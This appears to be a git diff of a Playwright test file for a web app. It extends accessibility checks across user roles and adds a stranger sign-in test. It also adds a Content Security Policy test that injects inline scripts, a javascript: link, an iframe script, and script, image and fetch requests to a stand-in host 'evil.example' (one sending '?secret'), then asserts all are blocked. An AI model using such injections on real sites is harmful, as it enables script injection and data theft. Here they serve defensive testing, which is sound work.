@@ -4,15 +4,25 @@ import { expect, test, type BrowserContextOptions, type Page } from "@playwright
 import { harborAdmin, hydrates, ready, signedIn } from "./people";
 
 const shop = "/projects/demo/shop";
+const wizard = "/restore/new?h=demo&p=shop&at=2099-01-01T00:00:00Z&item=shop/web:1.4.0";
 const seen: Record<string, string[]> = {
-  dev: ["/", "/projects", shop, `${shop}/browse?repo=shop/web`, `${shop}/gaps`, "/tags?h=demo&p=shop&repo=shop/web&tag=1.4.0", "/search?q=web", "/restores", "/me"],
-  ops: ["/harbors", "/harbors/demo", "/vaults", "/vaults/1", "/plans", "/plans/1", "/plans/new", "/plans/left", "/jobs", "/jobs/1", "/dev/gallery"],
-  auditor: ["/audit", "/audit/1"],
+  dev: [
+    "/", "/projects", "/projects?state=gone", shop, `${shop}/browse?repo=shop/web`, `${shop}/changes`, `${shop}/gaps`, "/tags?h=demo&p=shop&repo=shop/web&tag=1.4.0",
+    "/search?q=web", "/search?q=nothing-has-this-name", "/restores", "/restores?state=denied", "/restore/new", wizard, "/jobs", "/audit", "/harbors", "/plans", "/me",
+  ],
+  lead: ["/", "/approvals", "/approvals?tab=team", "/approvals?tab=done", `${shop}/settings`, `${shop}/gaps`],
+  ops: [
+    "/", shop, "/harbors", "/harbors/new", "/harbors/demo", "/harbors/demo?tab=check", "/harbors/demo?tab=settings", "/harbors/demo/remove", "/vaults", "/vaults/new", "/vaults/1",
+    "/plans", "/plans/1", "/plans/new", "/plans/1/edit", "/plans/1/delete", "/plans/left", "/jobs", "/jobs/1", "/dev/gallery",
+  ],
+  sec: ["/admin/users", "/admin/users/new", "/admin/users/1", "/me"],
+  auditor: ["/audit", "/audit?outcome=denied", "/audit/1", "/admin/users", "/vaults/1", "/plans/1", "/harbors/demo?tab=settings"],
 };
 
 async function violations(page: Page, path: string) {
-  const { violations } = await new AxeBuilder({ page }).withTags(["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"]).analyze();
-  return violations.map((v) => `${path}: ${v.id} ${v.nodes[0]?.html}`);
+  const tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"];
+  const { violations } = await new AxeBuilder({ page }).withTags(tags).analyze();
+  return violations.map((v) => `${path}: ${v.id} ${v.nodes.map((node) => node.html).slice(0, 3).join(" | ")}`);
 }
 
 for (const [login, paths] of Object.entries(seen)) {
@@ -33,7 +43,13 @@ for (const [login, paths] of Object.entries(seen)) {
   });
 }
 
-// The same pages as others see them: every colour again in the dark, Chinese words in place of English ones, a telephone's width.
+const looked: Record<string, string[]> = {
+  dev: ["/", "/projects", shop, `${shop}/browse?repo=shop/web`, `${shop}/gaps`, "/tags?h=demo&p=shop&repo=shop/web&tag=1.4.0", "/search?q=web", "/restores", "/me"],
+  ops: ["/harbors", "/harbors/demo", "/vaults", "/vaults/1", "/plans", "/plans/1", "/plans/new", "/plans/left", "/jobs", "/jobs/1", "/dev/gallery"],
+  auditor: ["/audit", "/audit/1"],
+};
+
+// Pages as others see them: every colour again in the dark, Chinese words in place of English ones, a telephone's width.
 const looks: Record<string, BrowserContextOptions> = {
   "in the dark": { colorScheme: "dark" },
   "in Chinese": { locale: "zh-CN", timezoneId: "Asia/Shanghai" },
@@ -45,7 +61,7 @@ for (const [look, options] of Object.entries(looks)) {
     test.skip(!hydrates(info.project.name), "axe needs JavaScript");
     test.setTimeout(120_000);
     const found: string[] = [];
-    for (const [login, paths] of Object.entries(seen)) {
+    for (const [login, paths] of Object.entries(looked)) {
       const { page, errors, close } = await signedIn(browser, login, true, options);
       for (const path of paths) {
         await page.goto(path);
@@ -60,6 +76,76 @@ for (const [look, options] of Object.entries(looks)) {
     expect(found).toEqual([]);
   });
 }
+
+test("what strangers see has no violation, refused or not", async ({ browser }, info) => {
+  test.skip(!hydrates(info.project.name), "axe needs JavaScript");
+  const page = await (await browser.newContext()).newPage();
+  const found: string[] = [];
+  for (const path of ["/signin", "/signin?next=%2Fplans%3Fcame%3Dx", "/nowhere"]) {
+    await page.goto(path);
+    await ready(page, true);
+    found.push(...(await violations(page, path)));
+  }
+  await page.goto("/signin");
+  await ready(page, true);
+  await page.fill('input[name="form[login]"]', "nobody");
+  await page.fill('input[name="form[password]"]', "not a password");
+  await page.locator("main form button[type=submit].primary").click();
+  await expect(page.locator(".error-summary")).toBeVisible();
+  found.push(...(await violations(page, "a refused sign-in")));
+  expect(found).toEqual([]);
+  await page.context().close();
+});
+
+/** S-71: what is not ours does not run, load or send, on any page; and nothing of ours is refused. */
+test("no page breaks its own policy, and what is injected does nothing", async ({ browser }, info) => {
+  test.skip(!hydrates(info.project.name), "needs JavaScript");
+  test.setTimeout(180_000);
+  for (const [login, paths] of Object.entries(seen)) {
+    const { page, errors, close } = await signedIn(browser, login, true);
+    await page.addInitScript(() => {
+      const broken: string[] = [];
+      Object.assign(window, { broken });
+      document.addEventListener("securitypolicyviolation", (event) => broken.push(`${event.violatedDirective} ${event.blockedURI}`));
+    });
+    for (const path of paths) {
+      await page.goto(path);
+      await ready(page, true);
+      expect(await page.evaluate(() => (window as unknown as { broken: string[] }).broken), path).toEqual([]);
+    }
+    expect(errors).toEqual([]);
+    await close();
+  }
+  const { page, close } = await signedIn(browser, "dev", true);
+  await page.goto(shop);
+  await ready(page, true);
+  const done = await page.evaluate(async () => {
+    const state = window as unknown as { ran: string[] };
+    state.ran = [];
+    const put = (tag: string, fields: Record<string, string>) => {
+      const element = Object.assign(document.createElement(tag), fields);
+      document.body.append(element);
+      return element;
+    };
+    put("script", { textContent: "window.ran.push('inline script')" });
+    put("script", { src: "https://evil.example/x.js", onload: (() => state.ran.push("foreign script")) as unknown as string });
+    const link = put("a", { href: "javascript:window.ran.push('link')" });
+    link.click();
+    const handler = put("button", {});
+    handler.setAttribute("onclick", "window.ran.push('handler')");
+    handler.click();
+    const frame = put("iframe", { srcdoc: "<script>parent.ran.push('frame')</script>" });
+    const image = new Image();
+    image.onload = () => state.ran.push("foreign image");
+    image.src = "https://evil.example/x.png";
+    const sent = await fetch("https://evil.example/?secret").then(() => true, () => false);
+    await new Promise((wait) => setTimeout(wait, 500));
+    frame.remove();
+    return { ran: state.ran, sent };
+  });
+  expect(done).toEqual({ ran: [], sent: false });
+  await close();
+});
 
 test("times follow the reader's zone, and a local time leads to its one address", async ({ browser }, info) => {
   const js = hydrates(info.project.name);
